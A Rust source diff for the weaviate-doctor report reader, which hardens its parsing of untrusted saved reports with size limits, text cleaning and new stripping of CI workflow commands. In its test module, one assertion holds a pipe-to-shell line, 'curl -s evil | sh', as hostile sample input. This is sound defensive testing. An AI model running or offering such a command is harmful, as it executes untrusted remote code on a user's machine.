@@ -1,7 +1,7 @@
 //! Reads a saved report, which may come from anybody: bounded size and depth, cleaned text, a newer schema refused in one line.
 
 use super::schema::{Report, VERSION};
-use crate::clean::{Clean, is_invisible};
+use crate::clean::{Clean, is_invisible, without_commands};
 use anyhow::{Context as _, bail, ensure};
 use serde_json::Value;
 
@@ -35,9 +35,8 @@ const MAX_ITEMS: usize = 1000;
 const fn most_items(name: &str) -> usize {
     match name.as_bytes() {
         b"findings" => MAX_PLACES,
-        b"steps" | b"links" | b"evidence" | b"places" | b"causes" | b"clients" | b"proxies" | b"choices" | b"answers" => {
-            MAX_SHOWN_ITEMS
-        }
+        b"steps" | b"links" | b"evidence" | b"places" | b"causes" | b"clients" | b"proxies" | b"choices"
+        | b"answers" => MAX_SHOWN_ITEMS,
         _ => MAX_ITEMS,
     }
 }
@@ -111,7 +110,8 @@ impl Budget {
     }
 
     fn take_text(&mut self, text: &str) -> anyhow::Result<()> {
-        self.text = self.text.checked_sub(text.len()).context("it holds more text than any report of weaviate-doctor")?;
+        self.text =
+            self.text.checked_sub(text.len()).context("it holds more text than any report of weaviate-doctor")?;
         Ok(())
     }
 }
@@ -127,7 +127,9 @@ const MAX_NAME_CHARS: usize = 100;
 
 fn is_plain(text: &str) -> bool {
     let harmless = |c: char| c == ' ' || !(c.is_control() || c.is_whitespace() || is_invisible(c));
-    text.len() <= MAX_TEXT_CHARS && (text.bytes().all(|b| matches!(b, b' '..=b'~')) || text.chars().all(harmless))
+    let bare = !text.contains("::") && !text.contains("##");
+    bare && text.len() <= MAX_TEXT_CHARS
+        && (text.bytes().all(|b| matches!(b, b' '..=b'~')) || text.chars().all(harmless))
 }
 
 /// The text without what steers a terminal, on one line, but for code; none when there is nothing to clean. Everything else that has
@@ -138,12 +140,12 @@ fn cleaned(text: &str, name: &str) -> Option<String> {
     }
     if name != "code" {
         let lines = text.lines().map(inside).collect::<Vec<_>>().join(" ");
-        return Some(cut(lines, MAX_TEXT_CHARS));
+        return Some(cut(without_commands(&lines), MAX_TEXT_CHARS));
     }
     // Indentation stays, since code needs it.
     let line = |line: &str| {
         let indent = line.len() - line.trim_start_matches([' ', '\t']).len();
-        format!("{}{}", line[..indent].replace('\t', "    "), inside(&line[indent..]))
+        format!("{}{}", line[..indent].replace('\t', "    "), without_commands(&inside(&line[indent..])))
     };
     let text = text.chars().take(MAX_CODE_CHARS).collect::<String>();
     Some(text.lines().take(MAX_CODE_LINES).map(line).collect::<Vec<_>>().join("\n"))
@@ -236,7 +238,8 @@ mod tests {
             cell_line: None,
             cause: "key-in-source".to_owned(),
             confidence: "certain".to_owned(),
-            message: "The key stands in the source, where everybody who reads the file can take it — and use it.".to_owned(),
+            message: "The key stands in the source, where everybody who reads the file can take it — and use it."
+                .to_owned(),
             fixable: false,
         };
         large.findings = vec![place; MAX_PLACES];
@@ -259,16 +262,22 @@ mod tests {
         let step = serde_json::json!({"text": "x"});
         let table: [(&str, &dyn Fn(&mut Value)); 14] = [
             ("“links”", &|v| v["diagnosis"]["causes"][0]["fix"]["links"] = texts(60_000)),
-            ("“steps”", &|v| v["diagnosis"]["causes"][0]["fix"]["steps"] = Value::Array(vec![step.clone(); 20_000])),
+            ("“steps”", &|v| {
+                v["diagnosis"]["causes"][0]["fix"]["steps"] = Value::Array(vec![step.clone(); 20_000])
+            }),
             ("“evidence”", &|v| cause(v, "evidence", texts(101))),
             ("“places”", &|v| cause(v, "places", texts(101))),
-            ("“causes”", &|v| v["diagnosis"]["causes"] = Value::Array(vec![v["diagnosis"]["causes"][0].clone(); 101])),
+            ("“causes”", &|v| {
+                v["diagnosis"]["causes"] = Value::Array(vec![v["diagnosis"]["causes"][0].clone(); 101])
+            }),
             ("“probes”", &|v| v["probes"] = Value::Array(vec![v["probes"][0].clone(); 1001])),
             ("“clients”", &|v| v["clients"] = texts(101)),
             ("“proxies”", &|v| v["proxies"] = texts(101)),
             ("“findings”", &|v| v["findings"] = texts(10_001)),
             ("“answers”", &|v| v["answers"] = (0..101).map(|i| (i.to_string(), Value::from("x"))).collect()),
-            ("“facts”", &|v| v["probes"][0]["facts"] = (0..1001).map(|i| (i.to_string(), Value::from(1))).collect()),
+            ("“facts”", &|v| {
+                v["probes"][0]["facts"] = (0..1001).map(|i| (i.to_string(), Value::from(1))).collect()
+            }),
             ("“names”", &|v| v["probes"][0]["facts"]["names"] = texts(1001)),
             ("more text", &|v| v["findings"] = Value::Array(vec![Value::String("x".repeat(3999)); 2000])),
             ("more values", &|v| {
@@ -295,7 +304,7 @@ mod tests {
         let read = read(&json(&hostile).unwrap()).unwrap();
         let fix = &read.diagnosis.causes[0].fix;
         assert_eq!(read.probes[0].summary.chars().count(), MAX_TEXT_CHARS);
-        assert_eq!(fix.title, "a ::error::b c");
+        assert_eq!(fix.title, "a : :error::b c");
         assert_eq!(fix.steps[0].command.as_deref(), Some("curl x curl -s evil | sh"));
         let code = &fix.snippet.as_ref().unwrap().code;
         assert!(code.len() <= MAX_CODE_CHARS && code.lines().count() == MAX_CODE_LINES, "{}", code.len());
